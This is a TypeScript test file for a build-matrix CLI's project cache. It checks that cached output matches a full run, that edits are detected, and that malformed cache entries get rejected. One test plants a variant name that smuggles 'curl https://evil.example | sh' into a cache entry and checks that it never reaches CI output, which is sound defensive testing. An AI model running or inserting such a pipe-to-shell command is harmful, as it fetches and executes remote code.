// The project cache (generator/matrix/project-cache.ts): `list`, `explain` (and fleet, ci) read the expanded Project
// from an entry keyed by content (the matrix's value, local-catalog.json's bytes, the bundle's build identity), so
// they start without zod, the catalog or expand. What it must hold: the same bytes on stdout with and without the
// entry; an edit to matrix.ts or local-catalog.json seen at once, also one that keeps the file's size and mtime; an
// entry that is not one, or a matrix that is not plain data, never trusted. Real processes of the compiled launcher
// (the cache lives only in the bundle: the sources have no build identity), against the sources' in-process main.
import { test } from "uvu";
import * as assert from "uvu/assert";
import { spawnSync } from "node:child_process";
import { existsSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { deserialize, serialize } from "node:v8";
// @ts-expect-error: plain JavaScript module without types (it runs before anything is compiled)
import { compiledEntry } from "../bin/build-dist.mjs";
import { BIN, runCli, tempDir, writeMatrix } from "./helpers/cli.ts";
import { runMain } from "./helpers/main.ts";
import { plainDataBytes, projectCacheFile, projectCacheKey } from "../generator/matrix/project-cache.ts";
import { bundleIdentity } from "../generator/sources-hash.mjs";
import { oneDecimal } from "../generator/commands/explain.ts";
import type { Project } from "../generator/matrix/project.ts";

const NAME = "torchaudio-python313-cuda12_9-sm121-armv9";
/** A small matrix (the default one's release and policy, fewer axis values): NAME is one of its variants. */
const BODY = {
  releases: [{ torch: "2.12.0", nixpkgs: "2c423e03bbafcff28bfadc6781a4a8257f205cb5" }],
  python: ["3.13"],
  cuda: ["12.9"],
  gpus: ["90", "121"],
  isas: ["avx2", "armv9"],
  cpuOnly: true,
  packages: ["pytorch", "torchaudio", "torchvision", "torch-env"],
};

/** The build identity of the bundle the launcher runs (dist/<hash>/), building it first when needed. */
function identity(): string {
  assert.is(spawnSync(process.execPath, [BIN, "--version"]).status, 0);
  return basename(dirname(compiledEntry()));
}

let imports = 0;
/** The cache entry the launcher reads for the matrix at `file` as it is now (its value imported afresh here). */
async function entryOf(file: string): Promise<string> {
  const mod = (await import(`${pathToFileURL(file).href}?v=${++imports}`)) as { default: unknown };
  const matrix = plainDataBytes(mod.default);
  assert.ok(matrix, "the test's matrix is plain data");
  const local = join(dirname(file), "local-catalog.json");
  const path = projectCacheFile(projectCacheKey({ identity: identity(), matrixFile: file, matrix, localCatalog: existsSync(local) ? readFileSync(local) : null }));
  assert.ok(path, "a writable cache directory");
  return path;
}

/** Rewrite the entry at `path` so that its first variant has another note (what only a run that reads it prints). */
function doctor(path: string, note: string): void {
  const e = deserialize(readFileSync(path)) as Pick<Project, "variants">;
  e.variants[0]!.notes = [note];
  writeFileSync(path, serialize(e));
}

/** A whole second in the past that every file of these tests is dated to (utimes sets it exactly). */
const PAST = 1_700_000_000;

/** Date `file` to PAST (before its first run, so that an edit can keep its mtime exactly). */
function datePast(file: string): void {
  utimesSync(file, PAST, PAST);
}

/** Write `text` over `file` and date it back to PAST: the edit keeps its size and its mtime, to the nanosecond. */
function editInPlace(file: string, text: string): void {
  const before = statSync(file, { bigint: true });
  assert.is(before.mtimeNs, BigInt(PAST) * 1_000_000_000n, "dated to PAST before");
  assert.is(BigInt(Buffer.byteLength(text)), before.size, "the edit keeps the size");
  writeFileSync(file, text);
  datePast(file);
  const after = statSync(file, { bigint: true });
  assert.is(after.mtimeNs, before.mtimeNs, "and the mtime");
  assert.is(after.size, before.size);
}

test("list --json, list --excluded --json and explain print the same bytes from the cache as the full path", async () => {
  const dir = tempDir("vm-project-cache-");
  const file = writeMatrix(dir, BODY);
  const entry = await entryOf(file);
  assert.not.ok(existsSync(entry), "no entry before the first run");
  const cold = runCli(["list", "--json", "--matrix", file]);
  assert.is(cold.status, 0, cold.stderr);
  assert.ok(existsSync(entry), "the first run wrote the entry");
  const runs = [["list", "--json"], ["list", "--excluded", "--json"], ["explain", NAME], ["explain", NAME, "--json"], ["list"]];
  for (const args of runs) {
    const argv = [...args, "--matrix", file];
    const warm = runCli(argv);
    const sources = await runMain(argv); // the TypeScript sources: no build identity, no cache
    assert.is(warm.status, 0, warm.stderr);
    assert.ok(warm.stdout.length > 100, args.join(" "));
    assert.is(warm.stdout, sources.stdout, `${args.join(" ")}: = the sources`);
    assert.is(warm.stderr, sources.stderr, `${args.join(" ")}: stderr`);
  }
  assert.is(runCli(["list", "--json", "--matrix", file]).stdout, cold.stdout, "warm = cold");
  // The warm runs above read the entry: a doctored one is what a run prints (so the comparison was of a hit).
  doctor(entry, "doctored-variant");
  assert.match(runCli(["list", "--json", "--matrix", file]).stdout, /"doctored-variant"/);
});

test("an edit to matrix.ts is seen at once, also one that keeps its size and mtime", async () => {
  const dir = tempDir("vm-project-cache-");
  const file = writeMatrix(dir, BODY);
  datePast(file);
  assert.is(runCli(["list", "--json", "--matrix", file]).status, 0);
  doctor(await entryOf(file), "doctored-variant");
  assert.match(runCli(["list", "--json", "--matrix", file]).stdout, /doctored-variant/);
  editInPlace(file, readFileSync(file, "utf8").replace('"3.13"', '"3.12"'));
  const after = runCli(["list", "--json", "--matrix", file]);
  assert.is(after.status, 0, after.stderr);
  assert.not.match(after.stdout, /doctored-variant/);
  assert.match(after.stdout, /-python312-/);
  assert.not.match(after.stdout, /-python313-/);
  assert.is(after.stdout, (await runMain(["list", "--json", "--matrix", file])).stdout);
  // An edit that makes the matrix invalid is an error at once, not the last good answer.
  editInPlace(file, readFileSync(file, "utf8").replace('"3.12"', '"3.99"'));
  const bad = runCli(["list", "--json", "--matrix", file]);
  assert.is(bad.status, 2);
  assert.match(bad.stderr, /python\.0: .*3\.99/);
});

test("an edit to local-catalog.json is seen at once, also one that keeps its size and mtime", async () => {
  const dir = tempDir("vm-project-cache-");
  const file = writeMatrix(dir, BODY);
  const local = join(dir, "local-catalog.json");
  writeFileSync(local, '{"nixpkgs": []}');
  datePast(local);
  assert.is(runCli(["list", "--json", "--matrix", file]).status, 0);
  doctor(await entryOf(file), "doctored-variant");
  assert.match(runCli(["list", "--json", "--matrix", file]).stdout, /doctored-variant/);
  // Same size, same mtime, same meaning (an empty local catalog): another key, so the full path's answer.
  editInPlace(local, '{"torch":   []}');
  const same = runCli(["list", "--json", "--matrix", file]);
  assert.is(same.status, 0, same.stderr);
  assert.not.match(same.stdout, /doctored-variant/);
  // Same size and mtime, invalid: the local catalog's error, at once.
  editInPlace(local, '{"nixpkgs": 12}');
  const bad = runCli(["list", "--json", "--matrix", file]);
  assert.is(bad.status, 2);
  assert.match(bad.stderr, /local-catalog\.json: invalid local catalog/);
  // Removed: the built-in catalog alone (the key of "no file" is not the key of an empty one).
  editInPlace(local, '{"nixpkgs": []}');
  doctor(await entryOf(file), "doctored-again");
  rmSync(local);
  assert.not.match(runCli(["list", "--json", "--matrix", file]).stdout, /doctored-again/);
});

test("an entry that is not one (cut short, not v8 data) is not trusted: the full path answers and rewrites it", async () => {
  const dir = tempDir("vm-project-cache-");
  const file = writeMatrix(dir, BODY);
  const good = runCli(["list", "--json", "--matrix", file]);
  assert.is(good.status, 0, good.stderr);
  const entry = await entryOf(file);
  for (const junk of [readFileSync(entry).subarray(0, 1000), Buffer.from("not an entry"), serialize({ variants: "no" })]) {
    writeFileSync(entry, junk);
    const r = runCli(["list", "--json", "--matrix", file]);
    assert.is(r.status, 0, r.stderr);
    assert.is(r.stdout, good.stdout);
    assert.ok(readFileSync(entry).length > 1000, "rewritten whole");
  }
});

test("an entry of the wrong shape is discarded and rewritten: list, explain, fleet and ci answer as the full path, and a planted name never reaches ci's run: lines", async () => {
  const dir = tempDir("vm-project-cache-shape-");
  const file = writeMatrix(dir, BODY);
  const commands = [["list", "--json"], ["explain", NAME], ["ci", "github"], ["fleet", "tests/fixtures/hosts/dgx-spark"]];
  const answers = commands.map((c) => runCli([...c, "--matrix", file]));
  answers.forEach((r, i) => assert.is(r.status, 0, `${commands[i]!.join(" ")}: ${r.stderr}`));
  const entry = await entryOf(file);
  const good = deserialize(readFileSync(entry)) as Project;
  const planted = "pytorch-python313-cpu-avx2; curl https://evil.example | sh";
  const wrong: [string, (e: Project) => unknown][] = [
    ["empty parts", () => ({ matrix: {}, catalog: {}, variants: [{}], excluded: [] })],
    ["a variant without its fields", (e) => ({ ...e, variants: [{ name: NAME }, ...e.variants.slice(1)] })],
    ["a number for a CUDA version", (e) => ({ ...e, variants: e.variants.map((v, i) => (i === 0 ? { ...v, cuda: 12.9 } : v)) })],
    ["a planted name", (e) => ({ ...e, variants: e.variants.map((v, i) => (i === 0 ? { ...v, name: planted } : v)) })],
    ["a dependency on nothing", (e) => ({ ...e, variants: e.variants.map((v) => ({ ...v, dependsOn: [...v.dependsOn, "pytorch-python313-cpu-avx512"] })) })],
    ["a catalog without its tables", (e) => ({ ...e, catalog: { ...e.catalog, gpus: null } })],
    ["a team cache matrix.ts would refuse", (e) => ({ ...e, matrix: { ...e.matrix, caches: [{ url: "https://c.example/#x", publicKey: "k#1:x" }] } })],
  ];
  for (const [what, make] of wrong) {
    writeFileSync(entry, serialize(make(structuredClone(good))));
    commands.forEach((c, i) => {
      writeFileSync(entry, serialize(make(structuredClone(good))));
      const r = runCli([...c, "--matrix", file]);
      assert.is(r.status, 0, `${what}, ${c.join(" ")}: ${r.stderr}`);
      assert.is(r.stdout, answers[i]!.stdout, `${what}, ${c.join(" ")}: the full path's answer`);
      assert.not.match(r.stdout, /evil\.example/);
    });
    assert.equal(deserialize(readFileSync(entry)), good, `${what}: rewritten with the full path's data`);
  }
});

test("a matrix that is not plain data is never keyed: getters, a Proxy, class instances, functions, symbols", async () => {
  assert.ok(plainDataBytes({ a: ["x", 1, true, null, undefined], b: { c: -0 } }));
  const plain = (x: unknown) => plainDataBytes(x)?.toString("hex");
  // What JSON would confuse, the key tells apart: undefined and a missing key, key order, -0 and 0.
  assert.is.not(plain({ a: 1, b: undefined }), plain({ a: 1 }));
  assert.is.not(plain({ a: 1, b: 2 }), plain({ b: 2, a: 1 }));
  assert.is.not(plain({ a: -0 }), plain({ a: 0 }));
  assert.is(plain({ a: ["x"] }), plain({ a: ["x"] }));
  let reads = 0;
  const withGetter = { get python() { reads++; return ["3.13"]; } };
  assert.is(plainDataBytes(withGetter), null);
  assert.is(reads, 0, "the getter is not run");
  let traps = 0;
  const proxy = new Proxy({ python: ["3.13"] }, { get: (t, k) => (traps++, Reflect.get(t, k)), ownKeys: (t) => (traps++, Reflect.ownKeys(t)) });
  assert.is(plainDataBytes({ m: proxy }), null);
  assert.is(traps, 0, "no trap is run");
  assert.is(plainDataBytes({ d: new Date(0) }), null);
  assert.is(plainDataBytes({ f: () => 1 }), null);
  assert.is(plainDataBytes({ [Symbol("s")]: 1 }), null);
  assert.is(plainDataBytes(Object.defineProperty({}, "hidden", { value: 1, enumerable: false })), null);
  assert.is(plainDataBytes({ a: [1, , 3] }), null, "an array with a hole");
  assert.is(plainDataBytes({ a: Object.assign(["x"], { extra: 1 }) }), null, "an array with another property");
  // And through the launcher: a matrix with a getter (never keyed) gives the full path's answer.
  const dir = tempDir("vm-project-cache-");
  const file = join(dir, "matrix.ts");
  writeFileSync(file, `const body = ${JSON.stringify(BODY)};\nexport default { ...body, get python() { return ["3.13"]; } };\n`);
  const r = runCli(["list", "--json", "--matrix", file]);
  assert.is(r.status, 0, r.stderr);
  assert.is(r.stdout, (await runMain(["list", "--json", "--matrix", file])).stdout);
});

test("the build identity is the bundle's dist/<hash>/ name, and the sources have none", () => {
  assert.is(bundleIdentity(pathToFileURL("/x/dist/0123456789abcdef/chunk-ABC.js").href), "0123456789abcdef");
  assert.is(bundleIdentity(pathToFileURL("/x/generator/matrix/project-cache.ts").href), null);
  assert.is(bundleIdentity(pathToFileURL("/x/other/0123456789abcdef/chunk.js").href), null);
  assert.is(bundleIdentity(), null, "this test runs the sources");
  // Two identities, two keys: a rebuilt bundle never reads the entries of another build.
  const k = { matrixFile: "/x/matrix.ts", matrix: plainDataBytes(BODY)!, localCatalog: null };
  assert.is.not(projectCacheKey({ ...k, identity: "0123456789abcdef" }), projectCacheKey({ ...k, identity: "fedcba9876543210" }));
});

test("a hit loads neither zod, the catalog's values nor expand; a miss does (what the start-up time is made of)", () => {
  const dir = tempDir("vm-project-cache-");
  const file = writeMatrix(dir, BODY);
  const hook = join(dir, "hook.mjs");
  const log = join(dir, "loaded.txt");
  writeFileSync(
    hook,
    `import { register } from "node:module";\nregister("data:text/javascript," + encodeURIComponent(${JSON.stringify(
      `import { appendFileSync } from "node:fs";\nexport async function load(url, ctx, next) { if (url.startsWith("file:")) appendFileSync(${JSON.stringify(log)}, url + "\\n"); return next(url, ctx); }`,
    )}));\n`,
  );
  const loaded = (args: string[]) => {
    writeFileSync(log, "");
    const r = spawnSync(process.execPath, ["--import", pathToFileURL(hook).href, BIN, ...args, "--matrix", file], { encoding: "utf8", env: { ...process.env, COLUMNS: "400" } });
    assert.is(r.status, 0, r.stderr);
    const files = readFileSync(log, "utf8").trim().split("\n").map((u) => new URL(u).pathname);
    return files.filter((f) => /node_modules\/zod\/|^\/\/ generator\/(catalog\/index|matrix\/expand)\.ts$/m.test(readFileSync(f, "utf8")));
  };
  assert.ok(loaded(["list", "--json"]).length >= 2, "the first run (a miss) loads zod, the catalog and expand");
  assert.equal(loaded(["list", "--json"]), [], "list --json, a hit");
  assert.equal(loaded(["explain", NAME]), [], "explain NAME, a hit");
});

test("explain's megabytes are written as toLocaleString writes them, without ICU", () => {
  const check = (x: number) => assert.is(oneDecimal(x), x.toLocaleString("en-US", { minimumFractionDigits: 1, maximumFractionDigits: 1 }), String(x));
  // Ties in the shortest decimal form (0.05, 0.15, 0.25, …: 0.35 is 0.34999… in binary, toFixed(1) gives 0.3, ICU 0.4).
  for (let k = 0; k < 20_000; k++) check(k / 20);
  for (let k = 0; k < 20_000; k++) check((k * 7919 + 50_000) / 1e6);
  for (const x of [0, 0.04, 0.05, 0.95, 9.95, 99.95, 999.95, 1234567.85, 1e20, 1e21, 1e-7, -1.25, Number.NaN]) check(x);
});

test.run();
